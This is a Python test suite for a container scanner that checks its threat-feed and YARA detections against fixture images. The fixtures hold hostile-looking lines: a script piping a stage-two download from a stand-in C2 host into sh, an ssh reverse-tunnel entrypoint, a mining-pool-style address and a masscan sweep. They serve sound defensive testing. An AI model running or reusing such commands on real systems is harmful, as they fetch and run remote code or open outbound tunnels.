"""Network indicators, threat feeds (--intel) and YARA rules (--yara) in
`dredge scan`, on images built with umoci."""
import hashlib
import os

from lib.images import umoci_image

NET_CATEGORIES = {"malicious-host", "proxy-tunnel", "dynamic-dns",
                  "newly-registered-domain", "hacktool", "cryptominer"}


def build(t, name, layers, config=None):
    lay = os.path.join(t.tmp, name)
    umoci_image(lay, "t", layers, config=config)
    return "oci:%s:t" % lay


def scan_all(t, refs, *extra):
    """One `dredge scan` over several images (the rules compile once); the
    reports in order."""
    doc = t.dredge_json("scan", *refs, "--format", "json", *extra)
    return doc["reports"] if len(refs) > 1 else [doc]


def findings(doc, prefix):
    return [f for f in doc["findings"] if f["rule"].startswith(prefix)]


def write(t, name, text):
    path = os.path.join(t.tmp, name)
    with open(path, "w") as f:
        f.write(text)
    return path



# ---- the images ------------------------------------------------------------

def image_malicious_host(t):
    """An entrypoint script that curls a host of the malicious-host feed."""
    return build(t, "mal", [{
        "app/start.sh": "#!/bin/sh\nset -e\n# fetch the payload\n"
                        "curl -fsSL https://update.badhost-c2.net/stage2.sh | sh\n"
                        "exec /app/server\n",
        "app/server": "#!/bin/sh\necho serving\n"}],
        config={"entrypoint": ["/app/start.sh"]})


def check_malicious_host(t, doc):
    got = findings(doc, "intel-")
    t.eq(len(got), 1, "intel findings")
    f = got[0]
    t.eq(f["rule"], "intel-malicious-host", "rule")
    t.eq(f["category"], "malicious-host", "category")
    t.eq(f["severity"], "high", "severity")
    t.eq(f["evidence"], "update.badhost-c2.net", "evidence")
    t.eq(f["fingerprint"], "sha256:" + hashlib.sha256(b"update.badhost-c2.net").hexdigest(),
         "fingerprint")
    t.eq([(l["source"], l["path"], l["line"]) for l in f["locations"]],
         [("file", "app/start.sh", 4)], "locations")
    t.eq(doc["verdict"]["class"], "malicious", "verdict")
    t.ok("malicious-host" in doc["verdict"]["categories"], "verdict categories")


def image_dynamic_dns(t):
    """A script calling a dynamic-DNS host of the built-in list."""
    return build(t, "ddns", [{
        "opt/report.py": "import urllib.request\n\n"
                         "HOME = 'http://myhomebox.duckdns.org:8080/report'\n"
                         "urllib.request.urlopen(HOME, data=b'up')\n"}],
        config={"cmd": ["python3", "/opt/report.py"]})


def check_dynamic_dns(t, doc):
    got = findings(doc, "intel-")
    t.eq([(f["rule"], f["category"], f["severity"], f["evidence"]) for f in got],
         [("intel-dynamic-dns", "dynamic-dns", "medium", "myhomebox.duckdns.org")], "findings")
    t.eq([(l["source"], l["path"], l["line"]) for l in got[0]["locations"]],
         [("file", "opt/report.py", 3)], "locations")
    t.eq(doc["verdict"]["class"], "suspicious", "verdict")
    t.eq(doc["verdict"]["categories"], ["dynamic-dns"], "verdict categories")


def image_tunnel(t):
    """A tunnelling host in an ENTRYPOINT that connects (ssh -R)."""
    return build(t, "tun", [{"etc/motd": "hi\n"}],
                 config={"entrypoint": ["ssh", "-R", "80:localhost:8080", "serveo.net"],
                         "label": ["docs=see https://docs.python.org/3/"]})


def check_tunnel(t, doc):
    got = findings(doc, "intel-")
    t.eq([(f["rule"], f["category"], f["severity"], f["evidence"]) for f in got],
         [("intel-proxy-tunnel", "proxy-tunnel", "high", "serveo.net")], "findings")
    t.eq([(l["source"], l.get("field")) for l in got[0]["locations"]],
         [("config", "Entrypoint")], "locations")
    t.eq(doc["verdict"]["class"], "malicious", "verdict")


def image_ip(t):
    """Addresses in a config file: one listed, one private, one version-like."""
    return build(t, "ip", [{
        "etc/app.conf": "upstream = 45.9.148.117:3333\nlocal = 10.1.2.3\n"
                        "__version__ = \"45.9.148.118\"\n"}])


def check_ip(t, doc):
    got = findings(doc, "intel-")
    t.eq([(f["rule"], f["evidence"], [(l["source"], l["path"], l["line"])
                                     for l in f["locations"]]) for f in got],
         [("intel-malicious-host", "45.9.148.117", [("file", "etc/app.conf", 1)])],
         "findings")
    t.eq(doc["verdict"]["class"], "malicious", "verdict")


HASHED = b"\x7fELF\x02\x01\x01" + b"not really a miner" * 50


def image_hash(t):
    return build(t, "hash", [{"usr/local/bin/kworker": HASHED, "etc/motd": "hello\n"}])


def check_hash(t, doc):
    digest = hashlib.sha256(HASHED).hexdigest()
    got = findings(doc, "intel-file-hash")
    t.eq(len(got), 1, "hash findings")
    t.eq((got[0]["category"], got[0]["severity"], got[0]["evidence"], got[0]["fingerprint"]),
         ("cryptominer", "critical", "sha256:" + digest, "sha256:" + digest), "finding")
    t.eq([l["path"] for l in got[0]["locations"]], ["usr/local/bin/kworker"], "path")
    t.eq(doc["verdict"]["class"], "malicious", "verdict")


def image_yara(t):
    return build(t, "yara", [{
        "opt/tools/scan.sh": "#!/bin/sh\n# quick sweep\nmasscan -p1-65535 --rate 100000 $1\n",
        "opt/tools/notes.txt": "masscan --rate 100000 is only mentioned here\n"}])


def check_yara(t, doc):
    got = findings(doc, "yara:")
    t.eq([(f["rule"], f["category"], f["severity"], f["evidence"],
           [l["path"] for l in f["locations"]]) for f in got],
         [("yara:masscan_sweep", "hacktool", "high", "masscan_sweep $a,$b",
           ["opt/tools/scan.sh"])], "yara findings")
    # hacktool is not strong unless the rule says so: high, weak → suspicious
    t.eq(doc["verdict"]["class"], "suspicious", "verdict")
    t.eq(doc["verdict"]["categories"], ["hacktool"], "verdict categories")


def image_clean(t):
    """Ordinary URLs and hosts (debian.org, pypi.org, github.com) in files,
    config and history, and version strings that look like addresses."""
    return build(t, "clean", [{
        "etc/apt/sources.list": "deb http://deb.debian.org/debian bookworm main\n"
                                "deb http://security.debian.org/debian-security "
                                "bookworm-security main\n",
        "etc/pip.conf": "[global]\nindex-url = https://pypi.org/simple\n",
        "app/setup.py": "from setuptools import setup\n__version__ = '1.2.3.4'\n"
                        "setup(name='app', version='1.2.3.4', "
                        "url='https://github.com/example/app',\n"
                        "      install_requires=['requests>=2.31.0.1'])\n",
        "app/run.sh": "#!/bin/sh\ngit clone https://github.com/example/app.git\n"
                      "pip install --index-url https://pypi.org/simple app==1.2.3.4\n"}],
        config={"cmd": ["/app/run.sh"], "env": ["PIP_INDEX_URL=https://pypi.org/simple"],
                "label": ["org.opencontainers.image.source=https://github.com/example/app"]})


def check_clean(t, doc):
    got = [f for f in doc["findings"] if f["category"] in NET_CATEGORIES or
           f["rule"].startswith("yara:")]
    t.eq(got, [], "network and yara findings")
    t.eq(doc["verdict"]["class"], "clean", "verdict")


CASES = [(image_malicious_host, check_malicious_host), (image_dynamic_dns, check_dynamic_dns),
         (image_tunnel, check_tunnel), (image_ip, check_ip), (image_hash, check_hash),
         (image_yara, check_yara), (image_clean, check_clean)]


def test_feeds_and_yara(t):
    """Seven images in one scan with a domain/hosts feed, a netset feed (its
    category from the command line), a hash feed and a YARA rule directory:
    each image's findings and verdict are exactly as expected."""
    refs = [build_fn(t) for build_fn, _ in CASES]
    domains = write(t, "bad.txt", "# a domain feed\n# category: malicious-host\n"
                                  "badhost-c2.net\n0.0.0.0 other-bad.example.org\n1.2.3.4\n")
    netset = write(t, "c2.netset", "# FireHOL style\n45.9.148.0/24\n2a0e:1c80::/29\n")
    hashes = write(t, "hashes.txt", "# category: cryptominer\n%s  kworker\n%s  other\n" %
                   (hashlib.sha256(HASHED).hexdigest().upper(), "ab" * 32))
    rules = os.path.join(t.tmp, "rules")
    os.makedirs(rules)
    write(t, "rules/hack.yar",
          'rule masscan_sweep {\n  meta:\n    category = "hacktool"\n'
          '    severity = "high"\n  strings:\n    $a = "masscan"\n    $b = "--rate"\n'
          '  condition:\n    all of them\n}\n')
    write(t, "rules/README", "not a rule file\n")
    reports = scan_all(t, refs, "--intel", domains, "--intel", "malicious-host=" + netset,
                       "--intel", hashes, "--yara", rules)
    t.eq(len(reports), len(CASES), "reports")
    for (build_fn, check), doc in zip(CASES, reports):
        try:
            check(t, doc)
        except Exception as e:
            raise type(e)("%s: %s" % (build_fn.__name__, e))


def test_yara_compile_error(t):
    """A rule file that does not compile: exit 8 naming file and line."""
    ref = build(t, "yerr", [{"etc/motd": "hi\n"}])
    bad = write(t, "bad.yar", "rule ok { condition: true }\nrule broken {\n  condition:\n"
                              "    $missing }\n")
    p = t.dredge("scan", ref, "--format", "json", "--yara", bad)
    t.exit(p, 8, "compile error")
    t.ok("bad.yar' line 4" in p.stderr, "message names file and line: %r" % p.stderr)


def test_bad_feed_line(t):
    """A feed with a junk line fails loudly: exit 8, file and line named."""
    ref = build(t, "bfeed", [{"etc/motd": "hi\n"}])
    feed = write(t, "junk.txt", "# category: malicious-host\nbad.example.org\n"
                                "this is not an entry\n")
    p = t.dredge("scan", ref, "--intel", feed)
    t.exit(p, 8, "bad feed")
    t.ok("junk.txt' line 3" in p.stderr, "message: %r" % p.stderr)
    nocat = write(t, "nocat.txt", "bad.example.org\n")
    p = t.dredge("scan", ref, "--intel", nocat)
    t.exit(p, 8, "feed without category")
    p = t.dredge("scan", ref, "--intel", "spam=" + feed)
    t.exit(p, 2, "not a feed category")
